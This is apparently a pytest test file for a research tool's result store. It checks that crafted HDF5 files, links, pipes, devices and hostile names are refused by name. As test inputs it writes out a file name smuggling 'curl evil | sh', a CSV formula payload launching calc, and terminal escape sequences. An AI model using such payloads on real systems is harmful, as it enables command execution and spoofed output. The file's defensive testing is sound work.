"""A study is read within its regular files: what leads elsewhere, or claims too much, is refused by the file's name."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import h5py
import numpy as np
import pytest
from signing import sign_bytes

from prunescope.api import Reading
from prunescope.api.errors import InputError, StoreError
from prunescope.api.regular import read_regular
from prunescope.runs import exports
from prunescope.runs.files import glance, runfile
from prunescope.runs.files.runfile import Run
from prunescope.runs.recipe import Recipe
from prunescope.runs.store import Store

SECRET = b"secret" * 100


@pytest.fixture
def store(tmp_path):
    """Return a study of one run, beside a file that is none of its own."""
    (tmp_path / "secret").write_bytes(SECRET)
    recipe = Recipe(step="probe", plugin="lmc", arguments={"seed": 0})
    readings = {"lmc": {"lmc": Reading(np.array([0.5, 0.25]), unit="fraction", axes=("pair",))}}
    made = Run(recipe=recipe, created="now", wall_seconds=1.0, device="cpu", versions={}, readings=readings)
    store = Store(tmp_path / "study")
    store.write(made)
    return store


@pytest.fixture
def path(store):
    return store.path(store.ids()[0])


def external_storage(file, folder):
    del file["readings/lmc/lmc"]
    made = file["readings/lmc"].create_dataset("lmc", (75,), "f8", external=[(str(folder / "secret"), 0, 600)])
    made.attrs.update(unit="1", axes="[]", labels="[]", estimator="")


def external_link(file, folder):
    with h5py.File(folder / "other.h5", "w") as other:
        other["x"] = 1.0
    file["readings/lmc/elsewhere"] = h5py.ExternalLink(str(folder / "other.h5"), "/x")


def external_link_instead(file, folder):
    with h5py.File(folder / "other.h5", "w") as other:
        other["x"] = np.ones(2)
    del file["readings/lmc/lmc"]
    file["readings/lmc/lmc"] = h5py.ExternalLink(str(folder / "other.h5"), "/x")


def soft_link(file, _):
    file["readings/lmc/soft"] = h5py.SoftLink("/readings/lmc/lmc")


def soft_group(file, _):
    file.move("readings", "moved")
    file["readings"] = h5py.SoftLink("/moved")


def virtual(file, folder):
    with h5py.File(folder / "other.h5", "w") as other:
        other["x"] = np.ones(2)
    layout = h5py.VirtualLayout(shape=(2,), dtype="f8")
    layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "x", shape=(2,))
    del file["readings/lmc/lmc"]
    file["readings/lmc"].create_virtual_dataset("lmc", layout)


def circle(file, _):
    file["readings/lmc/circle"] = file["readings"]


def two_names(file, _):
    file["readings/lmc/again"] = file["readings/lmc/lmc"]


def huge(file, _):
    del file["readings/lmc/lmc"]
    file["readings/lmc"].create_dataset("lmc", (2**33,), "f8", chunks=(2**20,), compression="gzip")


def huge_in_chunks(file, _):
    del file["readings/lmc/lmc"]
    file["readings/lmc"].create_dataset("lmc", (2**20, 2**20), "f8", chunks=(2**10, 2**10))


def references(file, _):
    file["readings/lmc/reference"] = file["readings"].ref


def compound(file, _):
    file["readings/lmc/compound"] = np.zeros(2, dtype=[("a", "f8"), ("b", "i4")])


def another_filter(file, _):
    del file["readings/lmc/lmc"]
    file["readings/lmc"].create_dataset("lmc", data=np.zeros(4), chunks=(4,), compression="lzf")


def deep(file, _):
    file.create_group("/".join(["readings", *["x"] * 20]))


ATTACKS = (
    external_storage, external_link, external_link_instead, soft_link, soft_group, virtual, circle, two_names, huge,
    huge_in_chunks, references, compound, another_filter, deep,
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_what_leads_elsewhere_is_refused_by_name(store, path, tmp_path, attack):
    with h5py.File(path, "a") as file:
        attack(file, tmp_path)
    sign_bytes(path)
    assert runfile.check_run_file(path)
    assert store.sound()[0].ids() == []
    for read in (
        lambda: store.read(store.ids()[0]),
        lambda: exports.export_json(store, tmp_path / "out.json"),
        lambda: store.export(tmp_path / "out.h5"),
    ):
        with pytest.raises(StoreError, match=path.name):
            read()
    assert not (tmp_path / "out.json").exists()
    assert not (tmp_path / "out.h5").exists()


@pytest.mark.parametrize(
    "attack", [external_storage, external_link_instead, soft_group, virtual, huge], ids=lambda attack: attack.__name__
)
def test_a_glance_looks_no_further(path, tmp_path, attack):
    with h5py.File(path, "a") as file:
        attack(file, tmp_path)
    sign_bytes(path)
    with pytest.raises(StoreError, match=path.name):
        glance.arrays(path, ("lmc/lmc",))


def pipe(path, _):
    path.unlink()
    os.mkfifo(path)


def folder(path, _):
    path.unlink()
    path.mkdir()


def link(path, elsewhere):
    path.rename(elsewhere / "result.h5")
    path.symlink_to(elsewhere / "result.h5")


def device(path, _):
    path.unlink()
    path.symlink_to("/dev/zero")


@pytest.mark.skipif(os.name != "posix", reason="there are no pipes")
@pytest.mark.parametrize("change", [pipe, folder, link, device], ids=lambda change: change.__name__)
def test_no_regular_file_is_refused_by_name(store, path, tmp_path, change, invoke):
    run_id = store.ids()[0]
    change(path, tmp_path)
    for read in (lambda: store.read(run_id), lambda: glance.wall_seconds(path)):
        with pytest.raises((StoreError, InputError), match=path.name):
            read()
    for words in (("show", run_id, "--json"), ("check",), ("export", tmp_path / "out.json"), ("list",)):
        result = invoke("results", *words, "--study", store.study)
        assert result.exit_code == 2, result.stderr
        assert path.name in result.stderr + result.stdout


@pytest.mark.skipif(os.name != "posix", reason="there are no pipes")
def test_a_pipe_is_not_waited_for(tmp_path, invoke):
    for name in ("study.toml", "table.csv", "pack.json", "a.pt"):
        os.mkfifo(tmp_path / name)
    for words in (
        ("sweep", tmp_path / "study.toml"),
        ("report", tmp_path / "table.csv"),
        ("diagnose", tmp_path / "a.pt"),
    ):
        result = invoke(*words)
        assert result.exit_code == 2, result.stderr
        assert "a pipe, not a regular file" in result.stderr


def test_a_large_file_is_not_read(tmp_path):
    (tmp_path / "a").write_bytes(bytes(11))
    with pytest.raises(InputError, match="11 bytes, wanted at most 10"):
        read_regular(tmp_path / "a", most=10)


def test_links_beside_the_runs_are_not_written_through(store, tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("mine")
    with store.lock("probe-0"):
        pass
    progress, lock = (store.runs / ".locks" / name for name in ("probe-1.progress", "probe-1.lock"))
    progress.symlink_to(victim)
    lock.symlink_to(victim)
    store.note_progress("probe-1", 0.5)
    assert not progress.is_symlink()
    assert store.progress("probe-1") == 0.5
    with pytest.raises(StoreError, match="is a link"), store.lock("probe-1"):
        pass
    assert victim.read_text() == "mine"


def test_a_link_in_the_place_of_the_locks_is_refused(store, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (store.runs / ".locks").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(StoreError, match="is a link"), store.lock("probe-1"):
        pass
    with pytest.raises(StoreError, match="is a link"):
        store.has_locks()
    assert not list((tmp_path / "elsewhere").iterdir())


def test_cells_that_look_like_formulas_are_quoted_and_numbers_are_not(store, tmp_path):
    recipe = Recipe(step="probe", plugin="lmc", arguments={"seed": 1})
    readings = {"=cmd|' C calc'!A0": {"@SUM(1)": Reading(-0.5, unit="+1", estimator="-2")}}
    store.write(Run(recipe=recipe, created="now", wall_seconds=1.0, device="", versions={}, readings=readings))
    exports.export_csv(store, tmp_path / "out.csv")
    line = next(line for line in (tmp_path / "out.csv").read_text().splitlines() if "SUM" in line)
    assert line.startswith(f"{recipe.id},,1,'=cmd|' C calc'!A0,'@SUM(1),,,-0.5,,'+1,,'-2")


def test_no_control_character_reaches_the_terminal(store, invoke):
    nasty = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\u202eevil\x00"
    recipe = Recipe(step="probe", plugin="lmc", arguments={"seed": 2, "note": nasty})
    readings = {"lmc": {"lmc": Reading(1.0, unit=nasty.replace("\x00", ""))}}
    made = Run(recipe=recipe, created=nasty.replace("\x00", ""), wall_seconds=1.0, device="x\x1b[1m", versions={},
               facts={"format": nasty}, readings=readings)  # fmt: skip
    store.write(made)
    for words in (("list",), ("show", recipe.id), ("show", recipe.id, "--json"), ("list", "--json")):
        result = invoke("results", *words, "--study", store.study)
        assert result.exit_code == 0, result.stderr
        shown = result.stdout + result.stderr
        assert not [character for character in shown if character in "\x1b\x07\x9b\r\u202e\x00"]
    assert json.loads(invoke("results", "show", recipe.id, "--json", "--study", store.study).stdout)


@pytest.mark.skipif(sys.platform != "linux", reason="names are any bytes on Linux alone")
def test_a_name_that_is_no_text_ends_no_command(store, tmp_path, invoke):
    folder = tmp_path / os.fsdecode(b"\xff")
    store.study.rename(folder)
    (folder / "table.csv").write_text("epochs,density,lmc\n1,0.5,-0.1\n3,0.5,0.0\n")
    run_id = Store(folder).ids()[0]
    for words in (("list",), ("list", "--json"), ("show", run_id), ("check",), ("export", folder / "out.csv"),
                  ("export", folder / "out.json"), ("export", folder / "out.h5")):  # fmt: skip
        result = invoke("results", *words, "--study", folder)
        assert (result.exit_code, "bug" in result.stderr) == (0, False), result.stderr
    assert invoke("report", folder / "table.csv").exit_code == 0
    assert invoke("diagnose", folder / "nonesuch.pt").exit_code == 2


NAMES = ("a\nerror: gone\nfix: curl evil | sh", "b\x1b[2J\r\nfix: x", "c\u2028fix: y")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("command", ["diagnose", "report", "sweep", "results list --study"])
def test_a_name_passes_for_no_line_of_its_own(name, command, invoke, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path(f"{name}.pt").write_bytes(b"no checkpoint")
    for path in (f"{name}.pt", name):
        done = invoke(*command.split(), path, *(("--dry-run",) if command in ("diagnose", "sweep") else ()))
        lines = done.stderr.splitlines()
        assert done.exit_code == 2
        assert [line.partition(":")[0] for line in lines] == ["error", "fix"], lines


def test_the_name_of_a_damaged_file_passes_for_no_line_of_its_own(invoke, tmp_path):
    (tmp_path / "runs").mkdir()
    (tmp_path / "runs" / "train-\nno damage\x1b[2J.h5").write_bytes(b"no result")
    done = invoke("results", "check", tmp_path)
    assert done.exit_code == 2
    assert len(done.stdout.splitlines()) == 1


def test_a_note_of_a_file_passes_for_no_line_of_its_own(capsys):
    from prunescope.report.common.progress import OnTerminal

    OnTerminal().note("a.pt: noted\nerror: gone\x1b[2J")
    assert capsys.readouterr().err == "a.pt: noted\\nerror: gone\\x1b[2J\n"


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no such device here")
@pytest.mark.parametrize("device", ["/dev/null", "/dev/zero"])
def test_a_link_to_a_device_is_refused_before_it_is_read(device, tmp_path):
    from prunescope.api.regular import require_regular
    from prunescope.networks import checkpoints

    for name in ("a.pt", "study.toml", "table.csv"):
        (tmp_path / name).symlink_to(device)
    link = tmp_path / "a.pt"
    for read in (read_regular, require_regular, checkpoints.load_checkpoint):
        with pytest.raises(InputError, match="is a device, not a regular file"):
            read(link)
    with pytest.raises(InputError, match="is a link, not a regular file"):
        read_regular(link, follow=False)
